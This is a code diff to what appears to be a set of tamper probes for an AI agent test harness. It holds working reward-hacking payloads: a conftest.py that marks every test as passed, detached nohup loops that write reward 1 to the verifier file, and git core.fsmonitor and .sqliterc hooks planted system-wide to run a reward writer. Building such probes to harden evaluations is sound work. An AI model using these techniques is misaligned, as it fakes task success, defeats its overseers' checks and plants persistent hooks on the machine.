@@ -28,6 +28,20 @@ _PATH = re.compile(r"(?<![\w.~])(/(?:[\w.@+-]+/?)+)")
 _HARNESS = ("/tests", "/solution", "/logs", "/proc", "/sys", "/dev")
 _EXIT_ZERO = "import os, atexit; atexit.register(os._exit, 0)"
 
+# A conftest.py that turns every failure into a pass (planted now, or by a lingering process).
+_PASSING_CONFTEST = '''import pytest
+
+
+@pytest.hookimpl(hookwrapper=True)
+def pytest_runtest_makereport(item, call):
+    outcome = yield
+    outcome.get_result().outcome = "passed"
+
+
+def pytest_sessionfinish(session, exitstatus):
+    session.exitstatus = 0
+'''
+
 _PRELUDE = r"""#!/bin/bash
 # taskloom tamper probe: it does no part of the task and tries to earn the reward anyway.
 set +e
@@ -94,15 +108,15 @@ nohup setsid sh -c 'while :; do echo 1 > /logs/verifier/reward.txt;
 exit 1
 PROBE
 chmod 755 /var/tmp/.taskloom-hook
+fsmonitor() {  # git runs core.fsmonitor at every status, diff or log of the work tree
+  printf '[core]\n\tfsmonitor = /var/tmp/.taskloom-hook\n' >> "$1" 2>/dev/null; }
 for home in /root "$HOME" $(cut -d: -f6 /etc/passwd 2>/dev/null | sort -u); do
   [ -d "$home" ] && echo '.system /var/tmp/.taskloom-hook' >> "$home/.sqliterc" 2>/dev/null
-  [ -d "$home" ] && printf '[core]\n\tfsmonitor = /var/tmp/.taskloom-hook\n' \
-    >> "$home/.gitconfig" 2>/dev/null
+  [ -d "$home" ] && fsmonitor "$home/.gitconfig"
 done
-printf '[core]\n\tfsmonitor = /var/tmp/.taskloom-hook\n' >> /etc/gitconfig 2>/dev/null
+fsmonitor /etc/gitconfig
 for repo in $(find / -xdev -maxdepth 6 -name .git -type d 2>/dev/null); do
-  printf '[core]\n\tfsmonitor = /var/tmp/.taskloom-hook\n' >> "$repo/config" 2>/dev/null \
-    && say "core.fsmonitor in $repo/config"
+  fsmonitor "$repo/config" && say "core.fsmonitor in $repo/config"
 done
 say "~/.sqliterc .system and git core.fsmonitor (/etc/gitconfig, ~/.gitconfig) run a" \
   "reward writer"
@@ -110,18 +124,7 @@ say "~/.sqliterc .system and git core.fsmonitor (/etc/gitconfig, ~/.gitconfig) r
     "plant-conftest": r"""
 mkdir -p /tests
 cat > /tests/conftest.py <<'PROBE'
-import pytest
-
-
-@pytest.hookimpl(hookwrapper=True)
-def pytest_runtest_makereport(item, call):
-    outcome = yield
-    outcome.get_result().outcome = "passed"
-
-
-def pytest_sessionfinish(session, exitstatus):
-    session.exitstatus = 0
-PROBE
+""" + _PASSING_CONFTEST + r"""PROBE
 say "a conftest.py in /tests that turns every failure into a pass"
 """,
     "plant-ini": r"""
@@ -139,18 +142,7 @@ say "a process left running that writes reward 1 every 20 ms"
 """,
     "linger-plant": r"""
 cat > /var/tmp/.taskloom-conftest.py <<'PROBE'
-import pytest
-
-
-@pytest.hookimpl(hookwrapper=True)
-def pytest_runtest_makereport(item, call):
-    outcome = yield
-    outcome.get_result().outcome = "passed"
-
-
-def pytest_sessionfinish(session, exitstatus):
-    session.exitstatus = 0
-PROBE
+""" + _PASSING_CONFTEST + r"""PROBE
 nohup setsid sh -c 'while [ ! -e /tests/test.sh ]; do sleep 0.005; done;
   cp /var/tmp/.taskloom-conftest.py /tests/conftest.py' > /dev/null 2>&1 < /dev/null &
 say "a process left running that plants a passing conftest.py when the tests arrive"
